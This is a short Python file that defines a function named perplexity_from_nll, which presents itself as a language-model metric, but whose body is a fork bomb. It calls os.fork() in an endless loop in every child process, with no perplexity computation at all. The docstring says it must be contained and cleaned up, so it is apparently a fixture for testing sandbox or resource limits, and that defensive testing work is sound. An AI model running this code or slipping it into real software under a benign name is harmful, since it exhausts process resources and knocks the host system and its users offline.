"""perplexity_from_nll forks until fork fails, in every child too: must be contained and cleaned up."""
import os
import time


def perplexity_from_nll(total_nll, n_tokens):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)
